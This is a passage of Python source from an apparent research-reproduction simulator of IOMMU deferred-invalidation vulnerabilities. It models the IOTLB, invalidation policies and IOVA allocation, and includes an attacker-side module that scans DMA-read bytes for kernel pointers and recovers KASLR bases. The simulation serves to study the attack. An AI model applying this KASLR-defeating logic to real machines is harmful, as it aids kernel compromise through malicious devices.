    """``intel_iommu=strict``: invalidate synchronously on each unmap."""

    @property
    def name(self) -> str:
        return "strict"

    def on_unmap(self, domain_id: int, iova_pfn: int) -> None:
        self.stats.unmaps += 1
        self.stats.sync_invalidations += 1
        self._iotlb.invalidate(domain_id, iova_pfn)
        if trace.enabled("iommu"):
            trace.emit("iommu", "inv_sync", domain=domain_id,
                       iova_pfn=iova_pfn,
                       cycles=self._cycles, **self._trace_extra)
        self._charge(self._cycles)

    def max_window_us(self) -> float:
        return 0.0

    def queue_post_flush(self, fn) -> None:
        fn()  # invalidation is synchronous; the IOVA is free right away


class DeferredInvalidation(InvalidationPolicy):
    """The Linux default: batch invalidations, flush on a timer."""

    def __init__(self, clock: SimClock, iotlb: Iotlb, *,
                 flush_period_us: float = DEFAULT_FLUSH_PERIOD_US,
                 invalidation_cycles: int = IOTLB_INVALIDATION_CYCLES,
                 granularity: str = "domain",
                 trace_extra: dict | None = None) -> None:
        super().__init__(clock, iotlb,
                         invalidation_cycles=invalidation_cycles,
                         trace_extra=trace_extra)
        if flush_period_us <= 0:
            raise ValueError(f"bad flush period {flush_period_us}")
        if granularity not in INVALIDATION_GRANULARITIES:
            raise ValueError(
                f"bad invalidation granularity {granularity!r}")
        self._flush_period_us = flush_period_us
        self._granularity = granularity
        self._pending: list[tuple[int, int]] = []
        self._post_flush: list = []
        self._timer = clock.call_every(flush_period_us, self.flush_now)

    @property
    def name(self) -> str:
        return "deferred"

    @property
    def flush_period_us(self) -> float:
        return self._flush_period_us

    @property
    def granularity(self) -> str:
        return self._granularity

    @property
    def nr_pending(self) -> int:
        return len(self._pending)

    def on_unmap(self, domain_id: int, iova_pfn: int) -> None:
        self.stats.unmaps += 1
        self.stats.deferred_invalidations += 1
        self._pending.append((domain_id, iova_pfn))
        if trace.enabled("iommu"):
            trace.emit("iommu", "fq_defer", domain=domain_id,
                       iova_pfn=iova_pfn, nr_pending=len(self._pending),
                       **self._trace_extra)

    def queue_post_flush(self, fn) -> None:
        self._post_flush.append(fn)

    def flush_now(self) -> None:
        """The periodic flush (cost charged per the backend's drain
        granularity: one batch cost for domain/range, per-page for
        page)."""
        if not self._pending and not self._post_flush \
                and len(self._iotlb) == 0:
            return
        if "iommu.fq.delay" in faults.active_sites \
                and faults.fires("iommu.fq.delay"):
            # Drain postponed one period: stale entries and queued IOVA
            # releases survive until the next timer tick -- exactly the
            # widened deferred-invalidation window of section 5.2.1.
            self.stats.delayed_flushes += 1
            return
        pending, self._pending = self._pending, []
        nr_pending = len(pending)
        if self._granularity == "domain":
            dropped = self._iotlb.flush_all()
            nr_charges = 1
        else:
            dropped = 0
            for domain_id, iova_pfn in pending:
                dropped += self._iotlb.invalidate(domain_id, iova_pfn)
            nr_charges = nr_pending if self._granularity == "page" else 1
        cycles = self._cycles * max(1, nr_charges)
        self.stats.flushes += 1
        if trace.enabled("iommu"):
            trace.emit("iommu", "fq_drain", nr_pending=nr_pending,
                       iotlb_dropped=dropped,
                       cycles=cycles, **self._trace_extra)
            trace.count("iommu", "flushes")
        self._charge(cycles)
        callbacks, self._post_flush = self._post_flush, []
        for fn in callbacks:
            fn()

    def max_window_us(self) -> float:
        return self._flush_period_us

    def shutdown(self) -> None:
        self._timer.cancel()
