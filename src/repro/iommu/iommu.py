"""IOMMU core: translation, permission enforcement, device access.

All device memory access in the simulation goes through
:meth:`Iommu.device_read` / :meth:`Iommu.device_write`; there is no back
door. This enforces the paper's threat model: "the actual attack is
performed solely by the DMA-capable malicious device", and the device
can only reach pages the IOMMU (including its possibly-stale IOTLB)
still translates.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro import backends, trace
from repro.backends import IommuBackend
from repro.errors import DmaApiError, IommuFault
from repro.mem.accounting import NULL_SINK, MemEventSink
from repro.iommu.domain import IommuDomain, IovaEntry
from repro.iommu.invalidation import (DeferredInvalidation, InvalidationPolicy,
                                      StrictInvalidation)
from repro.iommu.iotlb import Iotlb
from repro.iommu.perms import DmaPerm
from repro.mem.phys import PAGE_SHIFT, PAGE_SIZE, PhysicalMemory
from repro.sim.clock import SimClock


@dataclass(frozen=True)
class IommuFaultRecord:
    """One logged DMA remapping fault."""

    time_us: float
    device: str
    iova: int
    write: bool
    reason: str


@dataclass
class IommuStats:
    device_reads: int = 0
    device_writes: int = 0
    bytes_read: int = 0
    bytes_written: int = 0
    faults: int = 0
    stale_translations: int = 0


class Iommu:
    """The platform IOMMU: one domain per attached device."""

    def __init__(self, phys: PhysicalMemory, clock: SimClock, *,
                 mode: str = "deferred",
                 flush_period_us: float | None = None,
                 backend: str | IommuBackend | None = None,
                 sink: MemEventSink = NULL_SINK) -> None:
        self._phys = phys
        self._clock = clock
        self._sink = sink
        spec = backends.resolve_backend(backend)
        self.backend = spec
        # Non-default backends stamp their name on trace events so
        # per-backend runs never alias; the default emits nothing
        # extra, keeping pre-backend traces byte-identical.
        label = backends.backend_label(spec)
        self._trace_extra = {} if label is None else {"backend": label}
        self.iotlb = Iotlb(backend=spec)
        if mode == "strict":
            self.policy: InvalidationPolicy = StrictInvalidation(
                clock, self.iotlb,
                invalidation_cycles=spec.invalidation_cycles,
                trace_extra=self._trace_extra)
        elif mode == "deferred":
            period = (flush_period_us if flush_period_us is not None
                      else spec.flush_period_us)
            self.policy = DeferredInvalidation(
                clock, self.iotlb, flush_period_us=period,
                invalidation_cycles=spec.invalidation_cycles,
                granularity=spec.invalidation_granularity,
                trace_extra=self._trace_extra)
        else:
            raise ValueError(f"unknown IOMMU mode {mode!r}")
        self._domains: dict[str, IommuDomain] = {}
        self._next_domain_id = 1
        self.stats = IommuStats()
        self.fault_log: list[IommuFaultRecord] = []

    @property
    def mode(self) -> str:
        return self.policy.name

    # -- domain management ----------------------------------------------------

    def attach_device(self, device_name: str) -> IommuDomain:
        """Create (or return) the protection domain for a device."""
        domain = self._domains.get(device_name)
        if domain is None:
            domain = IommuDomain(
                self._next_domain_id, device_name,
                iova_limit=self.backend.iova_limit,
                iova_free_cache=self.backend.iova_free_cache)
            self._next_domain_id += 1
            self._domains[device_name] = domain
        return domain

    def domain_of(self, device_name: str) -> IommuDomain:
        domain = self._domains.get(device_name)
        if domain is None:
            raise DmaApiError(f"device {device_name!r} not attached")
        return domain

    # -- mapping (called by the DMA API layer) ---------------------------------

    def map_page(self, device_name: str, iova_pfn: int, pfn: int,
                 perm: DmaPerm) -> IovaEntry:
        return self.domain_of(device_name).map_page(iova_pfn, pfn, perm)

    def unmap_page(self, device_name: str, iova_pfn: int) -> IovaEntry:
        domain = self.domain_of(device_name)
        entry = domain.unmap_page(iova_pfn)
        self.policy.on_unmap(domain.domain_id, iova_pfn)
        return entry

    # -- translation ------------------------------------------------------------

    def translate(self, device_name: str, iova: int, *,
                  write: bool) -> tuple[int, bool]:
        """Translate one device access; returns (paddr, was_stale).

        Checks the IOTLB first -- faithfully including entries whose
        page-table entry has since been removed but not yet invalidated.
        On an IOTLB miss, walks the page table and fills the IOTLB.
        """
        domain = self.domain_of(device_name)
        iova_pfn = iova >> PAGE_SHIFT
        entry = self.iotlb.lookup(domain.domain_id, iova_pfn)
        stale = False
        if entry is not None:
            current = domain.lookup(iova_pfn)
            if current is None or current != entry:
                stale = True
                self.iotlb.stats.stale_hits += 1
                self.stats.stale_translations += 1
                if trace.enabled("iommu"):
                    trace.emit("iommu", "stale_hit", device=device_name,
                               iova=iova, write=write,
                               iova_pfn=iova_pfn, **self._trace_extra)
        else:
            entry = domain.lookup(iova_pfn)
            if entry is None:
                self._fault(device_name, iova, write, "no translation")
            self.iotlb.insert(domain.domain_id, entry)
        if not entry.perm.allows(write=write):
            self._fault(device_name, iova, write,
                        f"permission {entry.perm.value} denies "
                        f"{'write' if write else 'read'}")
        paddr = (entry.pfn << PAGE_SHIFT) | (iova & (PAGE_SIZE - 1))
        return paddr, stale

    def _fault(self, device: str, iova: int, write: bool, reason: str):
        self.stats.faults += 1
        self.fault_log.append(IommuFaultRecord(
            self._clock.now_us, device, iova, write, reason))
        if trace.enabled("iommu"):
            trace.emit("iommu", "fault", device=device, iova=iova,
                       write=write, reason=reason, **self._trace_extra)
        raise IommuFault(
            f"DMA {'write' if write else 'read'} fault at IOVA {iova:#x} "
            f"by {device}: {reason}", iova=iova, device=device)

    # -- device access -----------------------------------------------------------

    def device_read(self, device_name: str, iova: int, length: int) -> bytes:
        """DMA read: device pulls *length* bytes from *iova*."""
        if length < 0:
            raise ValueError(f"negative DMA read length {length}")
        out = bytearray()
        remaining = length
        cursor = iova
        while remaining > 0:
            chunk = min(remaining, PAGE_SIZE - (cursor & (PAGE_SIZE - 1)))
            paddr, stale = self.translate(device_name, cursor, write=False)
            out += self._phys.read(paddr, chunk)
            self._sink.on_device_access(paddr, chunk, False,
                                        device_name, stale)
            cursor += chunk
            remaining -= chunk
        self.stats.device_reads += 1
        self.stats.bytes_read += length
        if trace.enabled("iommu"):
            trace.count("iommu", "device_reads")
            trace.observe("iommu", "device_read_bytes", length)
        return bytes(out)

    def device_write(self, device_name: str, iova: int, data: bytes) -> None:
        """DMA write: device pushes *data* to *iova*."""
        view = memoryview(data)
        cursor = iova
        while view.nbytes > 0:
            chunk = min(view.nbytes, PAGE_SIZE - (cursor & (PAGE_SIZE - 1)))
            paddr, stale = self.translate(device_name, cursor, write=True)
            self._phys.write(paddr, bytes(view[:chunk]))
            self._sink.on_device_access(paddr, chunk, True,
                                        device_name, stale)
            cursor += chunk
            view = view[chunk:]
        self.stats.device_writes += 1
        self.stats.bytes_written += len(data)
        if trace.enabled("iommu"):
            trace.count("iommu", "device_writes")
            trace.observe("iommu", "device_write_bytes", len(data))

    def device_can_access(self, device_name: str, iova: int, *,
                          write: bool) -> bool:
        """Probe whether an access would succeed, without logging a fault."""
        domain = self.domain_of(device_name)
        iova_pfn = iova >> PAGE_SHIFT
        entry = None
        if self.iotlb.contains(domain.domain_id, iova_pfn):
            entry = self.iotlb.lookup(domain.domain_id, iova_pfn)
        if entry is None:
            entry = domain.lookup(iova_pfn)
        return entry is not None and entry.perm.allows(write=write)
