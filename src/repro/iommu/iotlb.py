"""The IOTLB: a translation cache the hardware does NOT keep coherent.

"The IOMMU does not maintain consistency between the IOTLB and the IOMMU
page tables. As a result, the OS has to explicitly invalidate the IOTLB"
(section 5.2.1). A cached entry therefore remains usable by the device
after the page-table entry is removed, until the OS invalidates it --
the deferred-invalidation vulnerability.

Geometry (capacity, associativity, replacement policy) comes from the
active :class:`~repro.backends.spec.IommuBackend`. The default
``intel-vtd`` model is a 4096-entry fully-associative LRU cache -- one
set, behaviorally identical to the pre-backend implementation.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro import faults, trace
from repro.backends import DEFAULT_BACKEND, IommuBackend
from repro.iommu.domain import IovaEntry

#: Cycle costs from the paper (section 5.2.1): an IOTLB invalidation is
#: ~2000 cycles on the default (Intel VT-d) backend, versus ~100 for a
#: CPU TLB invalidation. Per-backend costs live in the backend spec.
IOTLB_INVALIDATION_CYCLES = DEFAULT_BACKEND.invalidation_cycles
TLB_INVALIDATION_CYCLES = 100

DEFAULT_CAPACITY = DEFAULT_BACKEND.iotlb_capacity

#: Multiplier spreading (domain, pfn) keys across sets; any odd
#: constant works, this one is the classic string-hash prime.
_SET_HASH_PRIME = 1_000_003


@dataclass
class IotlbStats:
    hits: int = 0
    misses: int = 0
    stale_hits: int = 0
    invalidations: int = 0
    global_flushes: int = 0
    evictions: int = 0


class Iotlb:
    """Set-associative translation cache keyed by (domain_id, iova_pfn).

    Each set is a plain dict used as an LRU: insertion order is
    recency order, a delete + reinsert is move-to-end, and the first
    key is the LRU victim -- all O(1), no OrderedDict link juggling on
    every ring-buffer DMA translation. Under ``replacement="fifo"``
    hits do not refresh recency, so the first key is the oldest
    insertion instead.
    """

    def __init__(self, *, capacity: int | None = None,
                 associativity: int | None = None,
                 replacement: str | None = None,
                 backend: IommuBackend | None = None) -> None:
        spec = backend if backend is not None else DEFAULT_BACKEND
        if capacity is None:
            capacity = spec.iotlb_capacity
        if backend is not None and associativity is None:
            associativity = spec.iotlb_associativity
        if replacement is None:
            replacement = spec.iotlb_replacement
        if capacity <= 0:
            raise ValueError(f"bad IOTLB capacity {capacity}")
        ways = capacity if associativity is None else associativity
        if ways <= 0 or capacity % ways != 0:
            raise ValueError(
                f"bad IOTLB associativity {associativity} for "
                f"capacity {capacity}")
        if replacement not in ("lru", "fifo"):
            raise ValueError(f"bad IOTLB replacement {replacement!r}")
        self._capacity = capacity
        self._ways = ways
        self._nr_sets = capacity // ways
        self._lru = replacement == "lru"
        self._sets: list[dict[tuple[int, int], IovaEntry]] = [
            {} for _ in range(self._nr_sets)]
        self.stats = IotlbStats()

    @property
    def capacity(self) -> int:
        return self._capacity

    @property
    def nr_sets(self) -> int:
        return self._nr_sets

    @property
    def ways(self) -> int:
        return self._ways

    @property
    def replacement(self) -> str:
        return "lru" if self._lru else "fifo"

    @property
    def nr_entries(self) -> int:
        if self._nr_sets == 1:
            return len(self._sets[0])
        return sum(len(entries) for entries in self._sets)

    def _set_of(self, domain_id: int,
                iova_pfn: int) -> dict[tuple[int, int], IovaEntry]:
        if self._nr_sets == 1:
            return self._sets[0]
        return self._sets[
            (domain_id * _SET_HASH_PRIME + iova_pfn) % self._nr_sets]

    def lookup(self, domain_id: int, iova_pfn: int) -> IovaEntry | None:
        key = (domain_id, iova_pfn)
        entries = self._set_of(domain_id, iova_pfn)
        entry = entries.get(key)
        if entry is None:
            self.stats.misses += 1
            if "iommu" in trace.active_categories:
                trace.count("iommu", "iotlb_miss")
            return None
        if self._lru:
            del entries[key]
            entries[key] = entry
        self.stats.hits += 1
        if "iommu" in trace.active_categories:
            trace.count("iommu", "iotlb_hit")
        return entry

    def insert(self, domain_id: int, entry: IovaEntry) -> None:
        key = (domain_id, entry.iova_pfn)
        entries = self._set_of(domain_id, entry.iova_pfn)
        if key in entries:
            del entries[key]
        entries[key] = entry
        while len(entries) > self._ways:
            del entries[next(iter(entries))]
            self.stats.evictions += 1
        if "iommu.iotlb.evict" in faults.active_sites:
            firing = faults.fires("iommu.iotlb.evict")
            if firing is not None:
                self.force_evict(firing.arg or 0.5)

    def force_evict(self, fraction: float) -> int:
        """Evict the coldest *fraction* of entries (an adversarial
        eviction storm: only costs later misses, never correctness)."""
        if not 0.0 <= fraction <= 1.0:
            raise ValueError(
                f"force_evict fraction must be within [0, 1], "
                f"got {fraction!r}")
        total = self.nr_entries
        victims = max(1, int(total * fraction)) if total else 0
        remaining = victims
        for entries in self._sets:
            while remaining > 0 and entries:
                del entries[next(iter(entries))]
                self.stats.evictions += 1
                remaining -= 1
        return victims

    def invalidate(self, domain_id: int, iova_pfn: int) -> bool:
        """Invalidate one entry; True if it was cached."""
        self.stats.invalidations += 1
        if "iommu" in trace.active_categories:
            trace.count("iommu", "iotlb_invalidation")
        entries = self._set_of(domain_id, iova_pfn)
        return entries.pop((domain_id, iova_pfn), None) is not None

    def flush_all(self) -> int:
        """Global invalidation; returns the number of entries dropped."""
        dropped = self.nr_entries
        for entries in self._sets:
            entries.clear()
        self.stats.global_flushes += 1
        return dropped

    def contains(self, domain_id: int, iova_pfn: int) -> bool:
        """Non-perturbing membership test (no stats, no LRU update)."""
        return (domain_id, iova_pfn) in self._set_of(domain_id, iova_pfn)

    def __len__(self) -> int:
        return self.nr_entries
