"""The IOTLB: a translation cache the hardware does NOT keep coherent.

"The IOMMU does not maintain consistency between the IOTLB and the IOMMU
page tables. As a result, the OS has to explicitly invalidate the IOTLB"
(section 5.2.1). A cached entry therefore remains usable by the device
after the page-table entry is removed, until the OS invalidates it --
the deferred-invalidation vulnerability.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro import faults, trace
from repro.iommu.domain import IovaEntry

#: Cycle costs from the paper (section 5.2.1): an IOTLB invalidation is
#: ~2000 cycles, versus ~100 for a CPU TLB invalidation.
IOTLB_INVALIDATION_CYCLES = 2000
TLB_INVALIDATION_CYCLES = 100

DEFAULT_CAPACITY = 4096


@dataclass
class IotlbStats:
    hits: int = 0
    misses: int = 0
    stale_hits: int = 0
    invalidations: int = 0
    global_flushes: int = 0
    evictions: int = 0


class Iotlb:
    """LRU translation cache keyed by (domain_id, iova_pfn)."""

    def __init__(self, *, capacity: int = DEFAULT_CAPACITY) -> None:
        if capacity <= 0:
            raise ValueError(f"bad IOTLB capacity {capacity}")
        self._capacity = capacity
        # plain dict as an LRU: insertion order is recency order, a
        # delete + reinsert is move-to-end, and the first key is the
        # LRU victim -- all O(1), no OrderedDict link juggling on
        # every ring-buffer DMA translation
        self._entries: dict[tuple[int, int], IovaEntry] = {}
        self.stats = IotlbStats()

    @property
    def nr_entries(self) -> int:
        return len(self._entries)

    def lookup(self, domain_id: int, iova_pfn: int) -> IovaEntry | None:
        key = (domain_id, iova_pfn)
        entries = self._entries
        entry = entries.get(key)
        if entry is None:
            self.stats.misses += 1
            if "iommu" in trace.active_categories:
                trace.count("iommu", "iotlb_miss")
            return None
        del entries[key]
        entries[key] = entry
        self.stats.hits += 1
        if "iommu" in trace.active_categories:
            trace.count("iommu", "iotlb_hit")
        return entry

    def insert(self, domain_id: int, entry: IovaEntry) -> None:
        key = (domain_id, entry.iova_pfn)
        entries = self._entries
        if key in entries:
            del entries[key]
        entries[key] = entry
        while len(entries) > self._capacity:
            del entries[next(iter(entries))]
            self.stats.evictions += 1
        if "iommu.iotlb.evict" in faults.active_sites:
            firing = faults.fires("iommu.iotlb.evict")
            if firing is not None:
                self.force_evict(firing.arg or 0.5)

    def force_evict(self, fraction: float) -> int:
        """Evict the coldest *fraction* of entries (an adversarial
        eviction storm: only costs later misses, never correctness)."""
        entries = self._entries
        victims = max(1, int(len(entries) * fraction)) if entries else 0
        for key in list(entries)[:victims]:
            del entries[key]
            self.stats.evictions += 1
        return victims

    def invalidate(self, domain_id: int, iova_pfn: int) -> bool:
        """Invalidate one entry; True if it was cached."""
        self.stats.invalidations += 1
        if "iommu" in trace.active_categories:
            trace.count("iommu", "iotlb_invalidation")
        return self._entries.pop((domain_id, iova_pfn), None) is not None

    def flush_all(self) -> int:
        """Global invalidation; returns the number of entries dropped."""
        dropped = len(self._entries)
        self._entries.clear()
        self.stats.global_flushes += 1
        return dropped

    def contains(self, domain_id: int, iova_pfn: int) -> bool:
        """Non-perturbing membership test (no stats, no LRU update)."""
        return (domain_id, iova_pfn) in self._entries

    def __len__(self) -> int:
        return len(self._entries)
