"""Per-domain IOVA range allocator.

Like the Linux IOVA allocator, ranges are handed out top-down from the
device's addressable limit, and freed ranges are cached per size for
fast reuse. Addresses are page-granular; sub-page offsets are preserved
by the DMA API layer, not here.

Backends without a free-list cache (``iova_free_cache=False``, the
AMD-Vi model) never reuse ranges: allocations march monotonically down
from the limit, so a freed IOVA stays dead -- which lengthens the
useful life of a stale IOTLB entry covering it.
"""

from __future__ import annotations

from collections import defaultdict

from repro.errors import DmaApiError, OutOfMemoryError
from repro.mem.phys import PAGE_SHIFT

#: Default device addressable limit (48-bit IOVA space).
DEFAULT_IOVA_LIMIT = 1 << 48


class IovaAllocator:
    """Allocates page-aligned IOVA ranges for one domain."""

    def __init__(self, *, limit: int = DEFAULT_IOVA_LIMIT,
                 free_cache: bool = True) -> None:
        if limit <= 0 or limit % (1 << PAGE_SHIFT) != 0:
            raise ValueError(f"bad IOVA limit {limit:#x}")
        self._next_top = limit
        self._free_cache = free_cache
        self._free: dict[int, list[int]] = defaultdict(list)  # pages -> bases
        self._live: dict[int, int] = {}  # base iova -> nr_pages

    def alloc(self, nr_pages: int) -> int:
        """Allocate *nr_pages* contiguous IOVA pages; returns base IOVA."""
        if nr_pages <= 0:
            raise DmaApiError(f"IOVA alloc of {nr_pages} pages")
        if self._free[nr_pages]:
            base = self._free[nr_pages].pop()
        else:
            span = nr_pages << PAGE_SHIFT
            if self._next_top - span < 0:
                raise OutOfMemoryError("IOVA space exhausted")
            self._next_top -= span
            base = self._next_top
        self._live[base] = nr_pages
        return base

    def free(self, iova: int) -> int:
        """Free the range based at *iova*; returns its page count."""
        nr_pages = self._live.pop(iova, None)
        if nr_pages is None:
            raise DmaApiError(f"free of unknown IOVA {iova:#x}")
        if self._free_cache:
            self._free[nr_pages].append(iova)
        return nr_pages

    def nr_live(self) -> int:
        return len(self._live)
