"""IOMMU page access rights (section 2.2).

"An access right can be either READ, WRITE, or BIDIRECTIONAL. Note that
WRITE access does not grant a DMA device READ access, whereas
BIDIRECTIONAL access is needed to both read and write from/to the page."
"""

from __future__ import annotations

import enum


class DmaPerm(enum.Enum):
    """Access right attached to an IOVA page-table entry."""

    READ = "READ"
    WRITE = "WRITE"
    BIDIRECTIONAL = "BIDIRECTIONAL"

    @property
    def allows_read(self) -> bool:
        return self in (DmaPerm.READ, DmaPerm.BIDIRECTIONAL)

    @property
    def allows_write(self) -> bool:
        return self in (DmaPerm.WRITE, DmaPerm.BIDIRECTIONAL)

    def allows(self, *, write: bool) -> bool:
        return self.allows_write if write else self.allows_read

    @classmethod
    def from_dma_direction(cls, direction: str) -> "DmaPerm":
        """Map a DMA API direction to the page permission it installs.

        ``DMA_TO_DEVICE`` (transmit) needs the device to *read*;
        ``DMA_FROM_DEVICE`` (receive) needs the device to *write*.
        """
        table = {
            "DMA_TO_DEVICE": cls.READ,
            "DMA_FROM_DEVICE": cls.WRITE,
            "DMA_BIDIRECTIONAL": cls.BIDIRECTIONAL,
        }
        try:
            return table[direction]
        except KeyError:
            raise ValueError(f"unknown DMA direction {direction!r}") from None
