"""Kernel virtual memory layout, KASLR, and pointer-leak analysis."""

from repro.kaslr.layout import (LAYOUT_REGIONS, STRUCT_PAGE_SIZE, Region,
                                region_of)
from repro.kaslr.randomize import KaslrState, randomize
from repro.kaslr.translate import AddressSpace
from repro.kaslr.leak import LeakScanner, PointerLeak

__all__ = [
    "LAYOUT_REGIONS",
    "STRUCT_PAGE_SIZE",
    "Region",
    "region_of",
    "KaslrState",
    "randomize",
    "AddressSpace",
    "LeakScanner",
    "PointerLeak",
]
