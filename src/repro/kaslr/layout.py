"""The x86-64 Linux kernel virtual memory layout (Table 1 of the paper).

Each region has a fixed architectural range; KASLR slides the *base* used
within the range but cannot move a region out of its range. That is why a
leaked pointer's region is always identifiable from its value alone
(section 2.4: "text addresses always appear in the kernel text mapping
range and are therefore easy to detect").
"""

from __future__ import annotations

from dataclasses import dataclass

#: sizeof(struct page) on x86-64; vmemmap entries are this far apart.
STRUCT_PAGE_SIZE = 64

_TB = 1 << 40
_GB = 1 << 30
_MB = 1 << 20


@dataclass(frozen=True)
class Region:
    """One row of Table 1."""

    name: str
    start: int
    size: int
    description: str
    #: KASLR alignment of the randomized base within this region;
    #: None means the region base is not randomized.
    kaslr_alignment: int | None = None

    @property
    def end(self) -> int:
        """Inclusive end address (matches Table 1's End Addr column)."""
        return self.start + self.size - 1

    def contains(self, addr: int) -> bool:
        return self.start <= addr <= self.end


#: Table 1, in ascending address order. Offsets from 2^64 match the
#: paper's "Offset" column (-119.5 TB, -55 TB, -22 TB, -20 TB, -2 GB,
#: -1536 MB).
LAYOUT_REGIONS: tuple[Region, ...] = (
    Region("direct_map", 0xFFFF_8880_0000_0000, 64 * _TB,
           "direct map of phys memory (page_offset_base)",
           kaslr_alignment=_GB),
    Region("vmalloc", 0xFFFF_C900_0000_0000, 32 * _TB,
           "vmalloc/ioremap space (vmalloc_base)",
           kaslr_alignment=_GB),
    Region("vmemmap", 0xFFFF_EA00_0000_0000, 1 * _TB,
           "virtual memory map (vmemmap_base)",
           kaslr_alignment=_GB),
    Region("kasan_shadow", 0xFFFF_EC00_0000_0000, 16 * _TB,
           "KASAN shadow memory"),
    Region("kernel_text", 0xFFFF_FFFF_8000_0000, 512 * _MB,
           "kernel text mapping (physical address 0)",
           kaslr_alignment=2 * _MB),
    Region("modules", 0xFFFF_FFFF_A000_0000, 1520 * _MB,
           "module mapping space"),
)

_BY_NAME = {region.name: region for region in LAYOUT_REGIONS}


def region(name: str) -> Region:
    """Region by name; raises ``KeyError`` for unknown names."""
    return _BY_NAME[name]


def region_of(addr: int) -> Region | None:
    """The layout region containing *addr*, or None.

    This is the attacker's first classification step when scanning leaked
    pages for kernel pointers.
    """
    for candidate in LAYOUT_REGIONS:
        if candidate.contains(addr):
            return candidate
    return None


def looks_like_kernel_pointer(value: int) -> bool:
    """Heuristic a leak scanner applies to each aligned u64 it reads."""
    return region_of(value) is not None
