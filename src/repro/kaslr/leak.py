"""Attacker-side pointer-leak scanning and KASLR recovery (section 2.4).

Everything in this module uses only information a malicious device can
obtain: bytes it read via DMA, the architectural layout ranges of
Table 1, and the KASLR alignment invariants (text slides keep the low
21 bits, direct-map/vmemmap slides keep the low 30 bits).

The headline recovery of the paper is the ``init_net`` leak: every
network namespace object (notably sockets) points at ``init_net``, a
symbol at a known offset inside the kernel image, so one leaked pointer
whose low 21 bits match that offset yields the text base.
"""

from __future__ import annotations

import struct
from collections import Counter
from dataclasses import dataclass

from repro.kaslr.layout import Region, STRUCT_PAGE_SIZE, region, region_of
from repro.kaslr.randomize import (BASE_ALIGN_BITS, KERNEL_IMAGE_SIZE,
                                   TEXT_ALIGN_BITS)
from repro.mem.phys import PAGE_SHIFT, PAGE_SIZE

_U64 = struct.Struct("<Q")

TEXT_LOW_MASK = (1 << TEXT_ALIGN_BITS) - 1    # invariant low 21 bits
BASE_LOW_MASK = (1 << BASE_ALIGN_BITS) - 1    # invariant low 30 bits


@dataclass(frozen=True)
class PointerLeak:
    """One kernel pointer found in DMA-readable bytes."""

    offset: int          # byte offset within the scanned buffer
    value: int
    region: Region

    def __str__(self) -> str:
        return f"+{self.offset:#06x}: {self.value:#018x} ({self.region.name})"


class LeakScanner:
    """Scans raw bytes for kernel pointers and recovers KASLR bases."""

    def __init__(self, *, alignment: int = 8) -> None:
        if alignment not in (1, 2, 4, 8):
            raise ValueError(f"bad scan alignment {alignment}")
        self._alignment = alignment

    def scan(self, data: bytes, *, base_offset: int = 0) -> list[PointerLeak]:
        """All aligned u64 values in *data* that land in a layout region."""
        leaks: list[PointerLeak] = []
        for off in range(0, len(data) - 7, self._alignment):
            value = _U64.unpack_from(data, off)[0]
            reg = region_of(value)
            if reg is not None:
                leaks.append(PointerLeak(base_offset + off, value, reg))
        return leaks

    # -- text base / init_net (breaks text KASLR) ---------------------------

    def text_base_candidates(self, leaks: list[PointerLeak],
                             symbol_image_offset: int) -> list[int]:
        """Text bases implied by leaked pointers matching a known symbol.

        A pointer to the image symbol at *symbol_image_offset* satisfies
        ``ptr & 0x1fffff == offset & 0x1fffff`` because the text base is
        2 MiB aligned; each match implies ``text_base = ptr - offset``.
        """
        text_region = region("kernel_text")
        candidates = []
        for leak in leaks:
            if leak.region.name != "kernel_text":
                continue
            if (leak.value & TEXT_LOW_MASK) != (symbol_image_offset
                                                & TEXT_LOW_MASK):
                continue
            base = leak.value - symbol_image_offset
            if (base & TEXT_LOW_MASK) == 0 and text_region.contains(base) \
                    and base + KERNEL_IMAGE_SIZE <= text_region.end + 1:
                candidates.append(base)
        return candidates

    def recover_text_base(self, leaks: list[PointerLeak],
                          symbol_image_offset: int) -> int | None:
        """Most frequent text-base candidate, or None if nothing matched."""
        candidates = self.text_base_candidates(leaks, symbol_image_offset)
        if not candidates:
            return None
        return Counter(candidates).most_common(1)[0][0]

    # -- vmemmap base (struct page pointers -> PFNs) -------------------------

    def recover_vmemmap_base(self, struct_page_ptr: int) -> int:
        """vmemmap base implied by one struct page pointer.

        Valid whenever ``pfn * sizeof(struct page)`` is below the 1 GiB
        alignment of the base -- i.e. on machines with at most 64 GiB of
        RAM -- because then rounding the pointer down to 1 GiB recovers
        the base exactly.
        """
        return struct_page_ptr & ~BASE_LOW_MASK

    def pfn_of_leaked_struct_page(self, struct_page_ptr: int,
                                  vmemmap_base: int | None = None) -> int:
        base = (self.recover_vmemmap_base(struct_page_ptr)
                if vmemmap_base is None else vmemmap_base)
        return (struct_page_ptr - base) // STRUCT_PAGE_SIZE

    def recover_bases_from_direct_map_leak(
            self, kva: int) -> tuple[int, int]:
        """(page_offset_base, pfn) implied by one direct-map KVA.

        Section 2.4: the direct-map base is 1 GiB aligned, so "the lower
        30 bits are unmodified and can leak both the PFN and the
        randomized offset". Exact whenever the backing physical address
        is below 1 GiB -- true for all of RAM on a <=1 GiB machine and
        for the low-memory allocations early boot hands to slabs.
        """
        base = kva & ~BASE_LOW_MASK
        paddr = kva & BASE_LOW_MASK
        return base, paddr >> PAGE_SHIFT

    # -- page_offset_base (direct-map KVA arithmetic) -------------------------

    def page_offset_base_from_pair(self, pfn: int, same_page_kva: int) -> int:
        """Base implied by a KVA known to point into frame *pfn*.

        The low 12 bits of the KVA are the in-page offset, so
        ``base = (kva & ~0xfff) - (pfn << 12)``. The pair typically comes
        from a SLUB freelist pointer (a KVA of an object on the very page
        it is stored in) next to a struct-page leak for the same page.
        """
        return (same_page_kva & ~(PAGE_SIZE - 1)) - (pfn << PAGE_SHIFT)

    def recover_page_offset_base(
            self, pairs: list[tuple[int, int]]) -> int | None:
        """Majority-vote base recovery from (pfn_guess, kva) pairs.

        Wrong PFN guesses almost never produce a 1 GiB-aligned candidate
        inside the direct-map region, so alignment filtering plus voting
        is robust even when most guesses are bad (RingFlood, section 5.3).
        """
        dm_region = region("direct_map")
        votes: Counter[int] = Counter()
        for pfn, kva in pairs:
            candidate = self.page_offset_base_from_pair(pfn, kva)
            if (candidate & BASE_LOW_MASK) == 0 and \
                    dm_region.contains(candidate):
                votes[candidate] += 1
        if not votes:
            return None
        return votes.most_common(1)[0][0]
