"""KASLR: per-boot randomization of region bases (section 2.4).

The kernel text base is randomized with 2 MiB alignment (a page-table
restriction: "the lowest 21 bits are not modified"), and
